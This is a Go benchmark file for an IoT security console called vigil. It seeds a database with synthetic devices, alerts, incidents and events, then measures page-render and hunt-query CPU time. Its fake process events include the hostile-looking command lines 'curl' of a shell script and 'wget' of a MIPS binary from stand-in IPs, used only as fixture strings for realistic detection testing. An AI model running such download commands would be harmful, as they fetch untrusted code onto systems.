package console

import (
	"context"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/auth"
	"github.com/vigil-iot/vigil/hunt"
	"github.com/vigil-iot/vigil/investigate"
	"github.com/vigil-iot/vigil/store"
	"github.com/vigil-iot/vigil/store/sqlite"
	"github.com/vigil-iot/vigil/web"
)

// Size of the benchmark's data: 10,000 devices, and events as given by
// VIGIL_BENCH_EVENTS (default 200,000; the figures in docs/benchmarks.md
// were taken with 10,000,000). VIGIL_BENCH_DIR keeps the database between
// runs (filling 10 million events takes half an hour or more).
const (
	benchDevices   = 10000
	benchAlerts    = 20000
	benchIncidents = 2000
	benchActions   = 1000
)

var benchNow = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

func benchStore(b *testing.B) *sqlite.Store {
	b.Helper()
	dir := os.Getenv("VIGIL_BENCH_DIR")
	if dir == "" {
		dir = b.TempDir()
	}
	st, err := sqlite.Open(filepath.Join(dir, "vigil.db"), sqlite.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	events := 200000
	if s := os.Getenv("VIGIL_BENCH_EVENTS"); s != "" {
		if events, err = strconv.Atoi(s); err != nil {
			b.Fatalf("VIGIL_BENCH_EVENTS=%q: want a number", s)
		}
	}
	ctx := context.Background()
	if _, err := st.GetDevice(ctx, fmt.Sprintf("dev-%05d", benchDevices-1)); err != nil {
		fillBench(b, st)
	}
	have, err := st.CountEvents(ctx)
	if err != nil {
		b.Fatal(err)
	}
	start := time.Now()
	for n := int(have); n < events; n += benchBatch {
		if err := st.PutEvents(ctx, benchEvents(n, min(benchBatch, events-n), events)); err != nil {
			b.Fatal(err)
		}
		if (n/benchBatch)%100 == 99 {
			b.Logf("stored %d of %d events (%s)", n+benchBatch, events, time.Since(start).Round(time.Second))
		}
	}
	if int(have) < events {
		b.Logf("stored %d events in %s", events-int(have), time.Since(start).Round(time.Second))
	}
	return st
}

// benchBatch is how many events one PutEvents of the fill stores.
const benchBatch = 10000

var benchCmds = []string{"/usr/sbin/sshd -D", "/bin/busybox telnetd", "curl -s http://203.0.113.7/x.sh", "python3 /opt/app/main.py",
	"/usr/bin/mosquitto -c /etc/mosquitto.conf", "wget http://198.51.100.4/bins/mips", "nginx: worker process"}

// benchEvents makes n of the total events from number i on: the last 24
// hours before benchNow of the 10,000 devices, evenly spaced (10 million
// events is one event per device every 86 s, a fleet's day), a mix of
// processes, logins (one in two failed), connections and health samples
// of about 10 fields each.
func benchEvents(i, n, total int) []vigil.Event {
	r := rand.New(rand.NewPCG(uint64(i), 7))
	step := 24 * time.Hour / time.Duration(total)
	out := make([]vigil.Event, n)
	for j := range out {
		k := i + j
		e := vigil.Event{ID: fmt.Sprintf("ev-%09d", k), Time: benchNow.Add(-time.Duration(total-k) * step), DeviceID: fmt.Sprintf("dev-%05d", r.IntN(benchDevices)),
			Source: "agent", Fields: map[string]any{"host.name": "h", "agent.version": "1.4.2"}}
		switch r.IntN(4) {
		case 0:
			e.Kind, e.Category, e.Action = vigil.KindProcess, "process", "exec"
			e.Fields["process.command_line"] = benchCmds[r.IntN(len(benchCmds))] + " " + strconv.Itoa(r.IntN(1000))
			e.Fields["process.pid"] = float64(r.IntN(30000))
			e.Fields["process.name"] = "p" + strconv.Itoa(r.IntN(50))
			e.Fields["user.name"] = []string{"root", "pi", "admin"}[r.IntN(3)]
		case 1:
			e.Kind, e.Category, e.Action = vigil.KindAuth, "authentication", "login"
			e.Outcome = []string{vigil.OutcomeSuccess, vigil.OutcomeFailure}[r.IntN(2)]
			e.Fields["user.name"] = []string{"root", "pi", "admin", "support", "guest"}[r.IntN(5)]
			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{10, byte(r.IntN(4)), byte(r.IntN(256)), byte(r.IntN(256))}), DstPort: 22}
		case 2:
			e.Kind, e.Category, e.Action = vigil.KindNetwork, "network", "connect"
			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{192, 168, 1, byte(r.IntN(256))}), SrcPort: uint16(30000 + r.IntN(30000)),
				DstIP: netip.AddrFrom4([4]byte{byte(r.IntN(224)), byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256))}), DstPort: uint16([]int{443, 1883, 8883, 80, 23}[r.IntN(5)])}
		default:
			e.Kind, e.Action = vigil.KindHealth, "sample"
			e.Fields["host.cpu.pct"] = float64(r.IntN(100))
			e.Fields["host.mem.pct"] = float64(r.IntN(100))
			e.Fields["host.temp.c"] = float64(30 + r.IntN(50))
		}
		out[j] = e
	}
	return out
}

func fillBench(b *testing.B, st *sqlite.Store) {
	ctx := context.Background()
	classes := []string{vigil.ClassCamera, vigil.ClassThermostat, vigil.ClassPLCGateway, vigil.ClassSmartMeter, vigil.ClassGateway}
	vendors := []string{"Hikvision", "Axis", "Honeywell", "Siemens", "Landis+Gyr", "Moxa", "Bosch"}
	for i := range benchDevices {
		d := vigil.Device{ID: fmt.Sprintf("dev-%05d", i), Name: fmt.Sprintf("device %d", i), Class: classes[i%len(classes)],
			Vendor: vendors[i%len(vendors)], Model: fmt.Sprintf("M-%d", i%23), Firmware: fmt.Sprintf("%d.%d", 1+i%4, i%10),
			State: vigil.StateActive, FirstSeen: benchNow.Add(-30 * 24 * time.Hour), LastSeen: benchNow.Add(-time.Duration(i%900) * time.Second),
			Software: []vigil.Component{{Name: "busybox", Version: "1.30.1"}, {Name: "openssl", Version: "1.1.1k"}, {Name: "lighttpd", Version: "1.4.45"},
				{Name: "dropbear", Version: "2019.78"}, {Name: "libcurl", Version: "7.64.0"}},
			Network: []vigil.NetIdentity{{Interface: "eth0", MAC: fmt.Sprintf("02:00:00:%02x:%02x:%02x", i>>16, (i>>8)&255, i&255), Addresses: []string{fmt.Sprintf("10.%d.%d.%d", i>>16, (i>>8)&255, i&255)}}},
			Health:  &vigil.Health{Time: benchNow, CPU: float64(i % 100), Memory: float64(i % 80), Disk: 40}}
		if i%50 == 0 {
			d.State = vigil.StateOffline
		}
		if err := st.PutDevice(ctx, d); err != nil {
			b.Fatal(err)
		}
	}
	var hs []vigil.Health
	for m := range 24 * 60 {
		hs = append(hs, vigil.Health{DeviceID: "dev-00007", Time: benchNow.Add(-time.Duration(m) * time.Minute), CPU: float64(m % 100), Memory: 50, Disk: 40})
	}
	if err := st.AddHealth(ctx, hs); err != nil {
		b.Fatal(err)
	}
	for i := range benchAlerts {
		a := vigil.Alert{ID: fmt.Sprintf("al-%06d", i), DedupKey: fmt.Sprintf("k%d", i), Detector: "sigma", RuleID: fmt.Sprintf("rule-%d", i%40),
			Title: fmt.Sprintf("Rule %d fired", i%40), Severity: vigil.Severity(1 + i%5), DeviceID: fmt.Sprintf("dev-%05d", i%benchDevices),
			Created: benchNow.Add(-time.Duration(i) * 20 * time.Second), Count: 1, IncidentID: fmt.Sprintf("inc-%05d", i%benchIncidents),
			Explanation: &vigil.Explanation{Rule: &vigil.ExplainedRule{ID: "r", Title: "t", Condition: "selection"},
				Matches: []vigil.Match{{Selection: "selection", Field: "event.action", Value: "login"}}}}
		if err := st.PutAlert(ctx, a); err != nil {
			b.Fatal(err)
		}
	}
	for i := range benchIncidents {
		status := vigil.IncidentResolved
		if i%4 == 0 {
			status = vigil.IncidentOpen
		}
		in := vigil.Incident{ID: fmt.Sprintf("inc-%05d", i), Title: fmt.Sprintf("Incident %d", i), Status: status, Severity: vigil.Severity(1 + i%5),
			DeviceIDs: []string{fmt.Sprintf("dev-%05d", i%benchDevices)}, Detected: benchNow.Add(-time.Duration(i) * 5 * time.Minute),
			FirstEventTime: benchNow.Add(-time.Duration(i)*5*time.Minute - time.Minute), Updated: benchNow.Add(-time.Duration(i) * 5 * time.Minute)}
		for j := 0; j < 10; j++ {
			in.AlertIDs = append(in.AlertIDs, fmt.Sprintf("al-%06d", i+j*benchIncidents))
		}
		if err := st.PutIncident(ctx, in); err != nil {
			b.Fatal(err)
		}
	}
	for i := range benchActions {
		x := vigil.Action{ID: fmt.Sprintf("act-%05d", i), Type: "isolate", DeviceID: fmt.Sprintf("dev-%05d", i), IncidentID: fmt.Sprintf("inc-%05d", i%benchIncidents),
			State: vigil.ActionSucceeded, RequestedBy: "playbook:x", Created: benchNow.Add(-time.Duration(i) * time.Minute), Updated: benchNow}
		if i%10 == 0 {
			x.State = vigil.ActionPendingApproval
		}
		if err := st.PutAction(ctx, x); err != nil {
			b.Fatal(err)
		}
	}
	for i := range 5000 {
		if _, err := st.AppendAudit(ctx, vigil.AuditRecord{Time: benchNow, Actor: "token:x", Action: "action.approve", Object: fmt.Sprintf("action:%d", i), Outcome: vigil.OutcomeOK}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkPages renders every page server-side, as an admin, with
// 10,000 devices, 20,000 alerts, 2,000 incidents, 1,000 actions, 5,000
// audit records and the events of VIGIL_BENCH_EVENTS. devices-cold reads
// the inventory index again on every view (it is cached 15 s).
//
//	go test -c -o /tmp/console.test ./console/
//	VIGIL_BENCH_DIR=/tmp/vb VIGIL_BENCH_EVENTS=10000000 \
//	  nice /tmp/console.test -test.run '^$' -test.bench BenchmarkPages -test.benchtime 5x -test.timeout 2h
//
// (docs/benchmarks.md, "Web console"; the first run fills and seals the
// 10 million events, about 50 minutes on a loaded machine).
func BenchmarkPages(b *testing.B) {
	st := benchStore(b)
	dir := b.TempDir()
	clk := &clock{t: benchNow}
	toks, err := auth.OpenFileStore(filepath.Join(dir, "tokens.json"), auth.WithClock(clk))
	if err != nil {
		b.Fatal(err)
	}
	plain, _, err := toks.Create("bench", auth.RoleAdmin)
	if err != nil {
		b.Fatal(err)
	}
	// Hunts read sealed segments, as on a server whose sealer has caught up.
	if m, err := st.MaxEventSeq(context.Background()); err != nil {
		b.Fatal(err)
	} else if _, err := hunt.Seal(context.Background(), st, m); err != nil {
		b.Fatal(err)
	}
	// 100 exceptions and 30 saved queries (puts replace: idempotent on a
	// kept database).
	for i := range 100 {
		x := vigil.Exception{ID: fmt.Sprintf("exc-%03d", i), RuleID: fmt.Sprintf("rule-%d", i%40), DeviceID: fmt.Sprintf("dev-%05d", i*97),
			Expires: benchNow.Add(time.Duration(i-20) * 24 * time.Hour), Reason: "maintenance window", Author: "user:ana", Created: benchNow.Add(-48 * time.Hour)}
		if err := st.PutException(context.Background(), x); err != nil {
			b.Fatal(err)
		}
	}
	for i := range 30 {
		q := store.SavedQuery{Name: fmt.Sprintf("query %d", i), Query: fmt.Sprintf("device.id=dev-%05d | stats count by event.kind", i), Author: "token:bench",
			Shared: i%2 == 0, Created: benchNow.Add(-time.Hour)}
		if err := st.PutSavedQuery(context.Background(), q); err != nil {
			b.Fatal(err)
		}
	}
	hunter := &web.Hunt{Src: st, Clock: clk}
	extra := append(UserRoutes(st, clk), web.HuntRoutes(hunter)...)
	extra = append(extra, web.SavedQueryRoutes(web.SavedQueriesAPI{Store: st, Clock: clk})...)
	extra = append(extra, web.ExceptionRoutes(web.ExceptionsAPI{Store: st, Clock: clk})...)
	extra = append(extra, web.InvestigationRoutes(web.Investigation{Investigator: investigate.New(investigate.Options{Store: st, Clock: clk}), Clock: clk})...)
	srv, err := web.NewServer(web.Options{Store: st, Tokens: toks, Clock: clk, Extra: extra})
	if err != nil {
		b.Fatal(err)
	}
	c, err := New(Options{Store: st, API: srv, Tokens: toks, Clock: clk, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		b.Fatal(err)
	}
	h := Mount(srv, c)
	// Log in once, as a browser does.
	get := func(target string, cookies []*http.Cookie) *httptest.ResponseRecorder {
		r := httptest.NewRequest("GET", "https://vigil.test"+target, nil)
		r.RemoteAddr = "192.0.2.1:1"
		for _, ck := range cookies {
			r.AddCookie(ck)
		}
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		return w
	}
	lw := get("/login", nil)
	csrf := csrfField.FindStringSubmatch(lw.Body.String())[1]
	form := url.Values{"csrf": {csrf}, "token": {plain}}
	r := httptest.NewRequest("POST", "https://vigil.test/login", strings.NewReader(form.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.RemoteAddr = "192.0.2.1:1"
	for _, ck := range lw.Result().Cookies() {
		r.AddCookie(ck)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	var session []*http.Cookie
	for _, ck := range w.Result().Cookies() {
		if ck.Name == SessionCookie {
			session = append(session, ck)
		}
	}
	if len(session) == 0 {
		b.Fatalf("login failed: %d", w.Code)
	}
	pages := []struct{ name, path string }{
		{"overview", "/"}, {"devices", "/devices"}, {"devices-search", "/devices?q=hikvision&class=camera"},
		{"devices-page-100", "/devices?page=100"}, {"device", "/devices/dev-00007"},
		{"alerts", "/alerts"}, {"alerts-device", "/alerts?device=dev-00042"}, {"alert", "/alerts/al-000123"},
		{"incidents", "/incidents"}, {"incidents-open", "/incidents?status=open"}, {"incident", "/incidents/inc-00010"},
		{"actions", "/actions"}, {"rules", "/rules"}, {"intel", "/intel"}, {"audit", "/audit"}, {"settings", "/settings"},
		{"exceptions", "/exceptions"}, {"hunt", "/hunt"},
		{"hunt-stats", "/hunt?" + url.Values{"q": {"| stats count by event.outcome, event.action"}}.Encode()},
		{"hunt-stats-1h", "/hunt?" + url.Values{"q": {"earliest=-1h event.outcome=failure | stats count by device.id | sort -count | head 10"}}.Encode()},
		{"hunt-events", "/hunt?" + url.Values{"q": {"event.outcome=failure device.id=dev-0004*"}}.Encode()},
		{"hunt-events-root", "/hunt?" + url.Values{"q": {"event.outcome=failure user.name=root"}}.Encode()},
		{"hunt-events-device", "/hunt?" + url.Values{"q": {"device.id=dev-00042 event.kind=process"}}.Encode()},
		{"report", "/incidents/inc-00010/report"},
	}
	for _, p := range pages {
		b.Run(p.name, func(b *testing.B) {
			get(p.path, session) // warm: the device index, SQLite's cache
			cpu0 := cpuTime()
			for b.Loop() {
				if w := get(p.path, session); w.Code != http.StatusOK {
					b.Fatalf("GET %s: %d %.300s", p.path, w.Code, w.Body)
				}
			}
			reportCPU(b, cpu0)
		})
	}
	// A hunt's first run: nothing of the store kept in memory by the
	// hunt cache (the columns and the unsealed tail are read again).
	for _, p := range pages {
		if !strings.HasPrefix(p.name, "hunt-") {
			continue
		}
		b.Run(p.name+"-cold", func(b *testing.B) {
			cpu0 := cpuTime()
			for b.Loop() {
				hunter.Cache = hunt.NewCacheAt(0, clk.Now)
				if w := get(p.path, session); w.Code != http.StatusOK {
					b.Fatalf("GET %s: %d %.300s", p.path, w.Code, w.Body)
				}
			}
			reportCPU(b, cpu0)
		})
	}
	b.Run("devices-cold", func(b *testing.B) {
		cpu0 := cpuTime()
		defer reportCPU(b, cpu0)
		for b.Loop() {
			c.devMu.Lock()
			c.devIndex = nil
			c.devMu.Unlock()
			if w := get("/devices", session); w.Code != http.StatusOK {
				b.Fatalf("GET /devices: %d", w.Code)
			}
		}
	})
}

// cpuTime is the process's CPU time (user and system).
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// reportCPU reports the CPU time per page view, which holds steadier than
// wall time on a machine shared with other work.
func reportCPU(b *testing.B, cpu0 time.Duration) {
	b.ReportMetric(float64(cpuTime()-cpu0)/float64(time.Millisecond)/float64(b.N), "cpu-ms/op")
}
